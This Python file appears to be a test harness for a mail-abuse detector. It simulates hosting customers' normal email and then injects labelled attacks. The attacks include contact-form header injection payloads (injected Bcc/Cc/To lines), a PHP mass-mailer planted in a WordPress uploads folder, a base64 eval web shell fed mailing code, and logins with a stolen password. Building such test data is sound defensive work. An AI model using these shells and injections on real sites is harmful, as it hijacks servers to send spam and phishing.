"""What detection is tried on: customers at their ordinary business, then break-ins among them.

A stream is a generator that sends one thing at each step. history() lets the customers live for
five days, so that what is ordinary can be learned (spread.py makes days of it; 40 messages and more
of each stream that is attacked later); today() goes on with less of the same, and the attacks among
it. Attacks are as published: the
injections of OWASP's testing guide and the bots' probe of 2005, the mailers that a WordPress
honeypot was left (test mail, double base64), a botnet that knows one password.

Who is written to again and again has no token; such rows of the truth have a group instead.
"""
import base64
import os
import time
import urllib.parse

import submit
import world
from mix import compose
from spread import Rounds

OWNER = "owner@dest.example"         # of alice's form
CORRESPONDENTS = ["anna@dest.example", "bert@dest.example", "chris@dest2.example",
                  "dora@dest2.example", "emil@dest3.example", "frida@dest3.example",
                  "georg@dest.example", "hanna@dest2.example"]
READERS = ["reader%02d@%s" % (n, "nouser.example" if n == 17 else "list.example")
           for n in range(30)]

# login -> addresses it is used from, mostly the first
HOMES = {
    "info@shop.example": ["127.49.1.20"],
    "office@bobs-bikes.example": ["127.49.2.30", "127.50.14.9", "127.50.201.77"],
    "dave@dave-blog.example": ["127.49.3.40"],
    "info@alice-crafts.example": ["203.0.113.31"],
}
VISITORS = ["203.0.113.%d" % n for n in range(40, 90)]
PROXIES = ["198.51.100.%d" % n for n in range(140, 150)]
BOTNET = ["127.84.3.1", "127.55.200.14", "127.98.17.5", "127.84.90.33", "127.20.8.8", "127.62.41.7",
          "127.38.5.120", "127.55.13.77", "127.98.140.2", "127.23.66.6"]
ROUNDS = 15          # of the history
PART = 9            # today's part of what the history had
BAIT = ["Your parcel is waiting", "Last reminder", "Account verification", "Outstanding invoice"]

MAILER = """<?php
error_reporting(0);
if (isset($_POST['to'])) foreach (explode(',', $_POST['to']) as $to)
\techo mail($to, $_POST['subject'], $_POST['text'], "From: {$_POST['from']}\\r\\n\
Return-Path: {$_POST['from']}\\r\\nMIME-Version: 1.0\\r\\n\
Content-Type: text/html; charset=UTF-8") ? "OK\\n" : "NO\\n";
"""
SHELL = "<?php @eval(base64_decode($_POST['z0'] ?? ''));\n"
SHELL_CODE = ("foreach (explode(',', $_POST['z1']) as $to) "
              "mail($to, $_POST['z2'], $_POST['z3'], 'From: ' . $_POST['z4']);")


def quote(text):
    return urllib.parse.quote(text, safe="")


def pick(mix, domains, tails):
    """One token, and an address with it for each tail, at one of the domains."""
    token = mix.truth.token()
    return token, ["%s%s@%s" % (token, "-%d" % n if n else "", mix.random.choice(domains))
                   for n in range(tails)]


def strangers(mix, count):
    """Addresses as spammers have them: one in four is long gone."""
    return pick(mix, ["list.example"] * 3 + ["dest2.example"] * 3 + ["nouser.example"] * 2, count)


def write_php(mix, name, recipients, subject, token=None, **fields):
    pool, account, script, library = world.SCRIPTS[name]
    if library:
        fields.update(library=world.LIBRARY, library_line=world.mail_line(world.LIBRARY))
    mix.truth.write(token=token, group=None if token else name, mta=mix.mta, channel="php",
                    account=account, uid=world.USERS["www-data" if pool == "www" else pool],
                    script=script, script_line=None if library else world.mail_line(script),
                    recipients=recipients, subject=subject, **fields)


# --- ordinary business -------------------------------------------------------------------------

def visit(mix, name, email, text="Do you have it in blue?", note="an honest visitor"):
    write_php(mix, "inquiry", [OWNER], "Inquiry from the website", note=note)
    submit.web(mix.mta, "alice-crafts.example", "/inquiry.php", mix.random.choice(VISITORS),
               "name=%s&email=%s&text=%s" % (quote(name), quote(email), quote(text)))


def visitors(mix, count):
    for number in range(count):
        visit(mix, "Visitor %d" % number, "visitor%d@isp.example" % number)
        yield


def odd_visitors(mix, count):
    """Honest, but a rule that looks for words would think otherwise."""
    text = "To: you\nBcc: nobody\nSubject: a question\n\nDo you have it in blue?"
    for name, email in (("Bob Bcc: friend", "bob@isp.example"),
                        ("J\u00fcrgen", "j\u00fcrgen@isp.example"),
                        ("To: the owner", '"Cc: me" <cc@isp.example>'),
                        ("Mail", "content-type@isp.example"),
                        ("Bcc", "bcc@isp.example"),
                        ("MIME-Version: 1.0", "mime@isp.example")):
        visit(mix, name, email, text, "honest, but odd")
        yield
    yield from visitors(mix, count)


def orders(mix, count):
    for _ in range(count):
        token, recipients = pick(mix, ["dest.example", "dest2.example", "dest3.example"], 1)
        subject = "Your order %d" % (1000 + int(token[1:]))
        write_php(mix, "order", recipients, subject, token, sender="orders@shop.example")
        submit.web(mix.mta, "shop.example", "/order.php?to=%s&subject=%s" % (
            quote(recipients[0]), quote(subject)), mix.random.choice(VISITORS))
        yield


def rides(mix, count):
    """Through the library: the log names the library, not the form."""
    for _ in range(count):
        write_php(mix, "wpform", ["office@bobs-bikes.example"], "New inquiry",
                  sender="wordpress@bobs-bikes.example")
        submit.web(mix.mta, "bobs-bikes.example", "/wp-content/plugins/forms/form.php",
                   mix.random.choice(VISITORS))
        yield


def templates(mix, count):
    """Evaluated code that has always been there, and always writes to the owner."""
    for _ in range(count):
        write_php(mix, "eval", ["info@shop.example"], "Template")
        submit.web(mix.mta, "shop.example", "/lib/template.php", mix.random.choice(VISITORS))
        yield


def newsletter(mix, count):
    """Issues, each of them a burst to everybody on the list."""
    for _ in range(count):
        for reader in READERS:
            write_php(mix, "newsletter", [reader], "News from the workshop",
                      sender="info@alice-crafts.example")
        submit.web(mix.mta, "alice-crafts.example",
                   "/newsletter.php?to=" + quote(",".join(READERS)), "203.0.113.31")
        yield


def cron(mix, count):
    for _ in range(count):
        mix.truth.write(group="cron", mta=mix.mta, channel="local", account="carol",
                        uid=world.USERS["carol"], sender="carol@host.example", note="cron",
                        recipients=["carol@host.example"],
                        subject="Cron <carol@host> php stock.php")
        submit.local(mix.mta, "carol", b"From: root (Cron Daemon)\nTo: carol@host.example\n"
                     b"Subject: Cron <carol@host> php stock.php\n\n3 articles are low.\n",
                     ("-i", "-FCronDaemon", "-t"))
        yield


def write_as(mix, login, client, recipients, token=None, note=None, subject=None, helo=None):
    subject = subject or mix.subject()
    mix.truth.write(token=token, group=None if token else login, mta=mix.mta, channel="auth",
                    account=world.LOGINS[login], login=login, client=client, sender=login,
                    recipients=recipients, subject=subject, note=note)
    submit.smtp(mix.mta, login, recipients, compose(login, recipients, subject), login=login,
                client=client, port=587, helo=helo or "[192.168.1.20]", mechanism="PLAIN")


def known(login):
    """Whom the owner of a login always writes to."""
    return CORRESPONDENTS[len(login) % 4:][:5]


def person(mix, count, login):
    """Somebody at a mail program: mostly the same people, now and then somebody new."""
    homes = HOMES[login]
    for number in range(count):
        client = homes[0] if mix.random.random() < 0.7 else mix.random.choice(homes)
        if number % 15 == 7:
            token, recipients = pick(mix, ["dest.example", "dest2.example"], 1)
            write_as(mix, login, client, recipients, token)
        else:
            several = mix.random.choice([1, 1, 1, 2])
            write_as(mix, login, client, mix.random.sample(known(login), several))
        yield


def journey(mix, count):
    """dave is in France, with his usual computer, and writes to his usual correspondents."""
    login = "dave@dave-blog.example"
    for number in range(count):
        write_as(mix, login, "127.33.8.%d" % (20 + number % 2), [known(login)[number % 5]],
                 note="on a journey")
        yield


# --- break-ins ---------------------------------------------------------------------------------

def inject(mix, pattern, count, note, text="http://spam.example/", ends="%0D%0A", blocked=False):
    """One POST to the form. In the pattern VICTIMS stands for that many strangers, and | for the
    end of a line, as `ends` writes it."""
    token, victims = strangers(mix, count)
    works = not blocked and (ends != "%0A" or world.takes_bare_newline(mix.mta))
    write_php(mix, "inquiry", [OWNER] + (victims if works else []), "Inquiry from the website",
              token if works else None, note=note, queued=not blocked,
              outcome={} if blocked else None)
    email = quote("win@spam.example") + "".join(
        ends if c == "|" else quote(c) for c in pattern.replace("VICTIMS", ", ".join(victims)))
    submit.web(mix.mta, "alice-crafts.example", "/inquiry.php", mix.random.choice(PROXIES),
               "name=%s&email=%s&text=%s" % (quote("Winner"), email, quote(text)))


def form_attack(mix):
    boundary = "===============1424793458=="
    mixed = '|MIME-Version: 1.0|Content-Type: multipart/mixed; boundary="%s"' % boundary
    part = "--%s\r\nContent-Type: text/html\r\n\r\n<a href=http://spam.example/>\r\n" % boundary
    robot = "tnqwyr@alice-crafts.example"
    yield inject(mix, mixed + "|Subject: 8a2f61|To: " + robot + "|bcc: VICTIMS|From: " + robot +
                 "||This is a multi-part message in MIME format.", 1,
                 "the bots' probe of 2005: PHP refuses it", ends="%0A", blocked=True)
    yield inject(mix, "|Bcc: VICTIMS", 1, "probe: bare LF", ends="%0A")
    yield inject(mix, "|Bcc: VICTIMS", 1, "probe: CRLF")
    yield inject(mix, "|Bcc: VICTIMS", 8, "injected Bcc")
    yield inject(mix, "|Cc: VICTIMS", 6, "injected Cc")
    yield inject(mix, "|Bcc: VICTIMS||<html>buy</html>", 6, "injected blank line: PHP refuses it",
                 blocked=True)
    yield inject(mix, "|To: VICTIMS", 6, "injected To")
    yield inject(mix, mixed + "|Bcc: VICTIMS", 8, "injected body", part)
    for _ in range(5):
        yield inject(mix, "|Bcc: VICTIMS", 10, "injected Bcc")


def drop(user, path, code):
    """A file as it is there after an upload through some hole of the site."""
    path = "/home/%s/public_html/%s" % (user, path)
    folder = os.path.dirname(path)
    os.makedirs(folder, exist_ok=True)
    os.chown(folder, world.USERS[user], world.USERS[user])
    with open(path, "w", encoding="utf-8") as file:
        file.write(code)
    os.chown(path, world.USERS[user], world.USERS[user])


def mailer_attack(mix):
    path = time.strftime("wp-content/uploads/%Y/%m/ltsfcwiab.php")
    world.SCRIPTS["mailer"] = ("bob", "bob", "/home/bob/public_html/" + path, False)
    drop("bob", path, MAILER)
    url = "http://bobs-bikes.example/" + path
    again = base64.b64encode(base64.b64encode(url.encode())).decode()
    yield time.sleep(3)         # the honeypot's median from upload to test mail
    token, recipients = pick(mix, ["dest2.example"], 1)
    yield use_mailer(mix, path, token, recipients, again, "test mail of the mailer")
    for _ in range(25):
        token, recipients = strangers(mix, 1)
        yield use_mailer(mix, path, token, recipients, mix.random.choice(BAIT), "uploaded mailer")


def use_mailer(mix, path, token, recipients, subject, note):
    write_php(mix, "mailer", recipients, subject, token, note=note)
    form = {"to": ",".join(recipients), "subject": subject, "text": "MTg0Mg==",
            "from": "JasonMiller@spam.example"}
    submit.web(mix.mta, "bobs-bikes.example", "/" + path, mix.random.choice(PROXIES),
               urllib.parse.urlencode(form))


def eval_attack(mix):
    """On the pool of www-data: only the path tells whose site it is."""
    world.SCRIPTS["shell"] = ("www", "dave", "/home/dave/public_html/old/gallery.php", False)
    drop("dave", "old/gallery.php", SHELL)
    for _ in range(20):
        token, recipients = strangers(mix, 1)
        subject = mix.random.choice(BAIT)
        write_php(mix, "shell", recipients, subject, token, note="code in the request")
        form = {"z0": base64.b64encode(SHELL_CODE.encode()), "z1": ",".join(recipients),
                "z2": subject, "z3": "text", "z4": "service@spam.example"}
        submit.web(mix.mta, "dave-blog.example", "/old/gallery.php", mix.random.choice(PROXIES),
                   urllib.parse.urlencode(form))
        yield


def botnet_attack(mix):
    for number in range(20):
        client = BOTNET[number % len(BOTNET)]
        token, recipients = strangers(mix, mix.random.choice([1, 1, 2, 3]))
        helo = mix.random.choice(["[%s]" % client, "WIN-8HQ2LS0K1PD", "localhost"])
        write_as(mix, "info@shop.example", client, recipients, token, "the password is stolen",
                 mix.random.choice(BAIT), helo)
        yield


# --- together ----------------------------------------------------------------------------------

# what customers do: a stream, how often in the days before, and for whom
FORM = [(visitors, 45), (person, 12, "info@alice-crafts.example")]
SITES = [(orders, 30), (rides, 8), (templates, 12), (cron, 4), (newsletter, 1)]
SHOP = [(person, 45, "info@shop.example")]
OTHERS = [(person, 12, "office@bobs-bikes.example"), (cron, 4)]
TRAVELLER = [(person, 45, "dave@dave-blog.example")]


def history(mix, customers):
    """The days before. Each stream is dealt out over all of them."""
    rounds = Rounds()
    streams = [(count, stream(mix, count, *whom)) for stream, count, *whom in customers]
    for number in range(ROUNDS):
        rounds.begin()
        turns = [stream for count, stream in streams
                 for _ in range(count * (number + 1) // ROUNDS - count * number // ROUNDS)]
        mix.random.shuffle(turns)
        for stream in turns:
            next(stream)
    rounds.spread()


def today(mix, customers, more):
    """A part of what is usual, and something else."""
    streams = [stream(mix, max(1, count // PART), *whom) for stream, count, *whom in customers]
    streams += more
    while streams:
        stream = mix.random.choice(streams)
        try:
            next(stream)
        except StopIteration:
            streams.remove(stream)
